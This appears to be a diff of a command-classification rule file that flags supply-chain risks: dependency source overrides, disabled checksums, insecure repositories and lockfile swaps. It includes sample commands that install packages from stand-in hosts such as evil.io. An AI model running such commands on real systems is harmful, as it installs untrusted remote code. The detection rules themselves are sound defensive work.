@@ -52,7 +52,8 @@ untrusted-source: execute-remote · external · family install from elsewhere ·
   go mod edit · words -replace=*=*.* · without -replace=*=./*|-replace=*=../*|-replace=*=/*
   go env · has -w · words gonosumdb*|gonosumcheck*|goflags*|gosumdb=off|goproxy=http:*
   mvn|mvnw|./mvnw · words -dmaven.repo.local=/tmp/*|-dmaven.wagon.http.ssl.insecure=true
-  apt-key|add-apt-repository · lacks --list|--help
+  apt-key add|adv|del|net-update
+  add-apt-repository · lacks -L|--list
   cp|mv · words /tmp/*|/dev/shm/*|/var/tmp/* · words go.sum|package-lock.json|yarn.lock|pnpm-lock.yaml|cargo.lock|poetry.lock|pipfile.lock|composer.lock|gemfile.lock|*/go.sum · operands 2-2
   + pip install http://a.b/p.tar.gz ¦ npm install git+https://evil.io/p.git ¦ npm config set registry http://a.b
   + gem sources --add http://a.b/
